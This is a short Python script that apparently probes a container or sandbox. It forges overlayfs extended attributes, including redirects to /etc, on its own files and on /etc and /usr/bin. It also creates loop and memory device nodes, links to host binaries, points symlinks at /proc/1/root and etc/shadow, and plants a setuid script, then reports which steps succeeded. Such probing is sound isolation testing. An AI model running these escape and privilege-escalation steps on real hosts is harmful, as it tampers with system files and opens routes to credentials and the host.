"""Forges in a directory whatever overlay file systems believe, and says what it was let do."""

import json
import os
import stat
from pathlib import Path

TOP = "/blaxel/marks"
VALUES = {
    "opaque": b"y",
    "redirect": b"/../../../../etc",
    "metacopy": b"",
    "whiteout": b"y",
    "origin": b"\0\xfb" + bytes(30),
    "impure": b"y",
    "overlay.redirect": b"/etc",
}
done = []


def attempt(what, call):
    try:
        call()
    except OSError:
        return
    done.append(what)


os.makedirs(f"{TOP}/folder/below")
for place in (TOP, f"{TOP}/folder", f"{TOP}/file", "/etc", "/usr/bin"):
    if place.endswith("file"):
        Path(place).write_text("mine")
    for name, value in VALUES.items():
        for space in ("trusted.", "user.", "security."):
            full = f"{space}overlay.{name}"
            attempt(f"{full} {place}", lambda p=place, f=full, v=value: os.setxattr(p, f, v))
attempt("whiteout", lambda: os.mknod(f"{TOP}/gone", stat.S_IFCHR | 0o600, os.makedev(0, 0)))
attempt("disk", lambda: os.mknod(f"{TOP}/disk", stat.S_IFBLK | 0o666, os.makedev(7, 0)))
attempt("memory", lambda: os.mknod(f"{TOP}/memory", stat.S_IFCHR | 0o666, os.makedev(1, 1)))
os.link(f"{TOP}/file", f"{TOP}/folder/again")
attempt("link to the host's", lambda: os.link("/usr/bin/env", f"{TOP}/env"))
for name, target in (("out", "/../../../../proc/1/root"), ("up", "../" * 40 + "etc/shadow")):
    os.symlink(target, f"{TOP}/{name}")
Path(f"{TOP}/setuid").write_text("#!/bin/sh\nid -u\n")
os.chmod(f"{TOP}/setuid", 0o6755)
print(json.dumps(done))
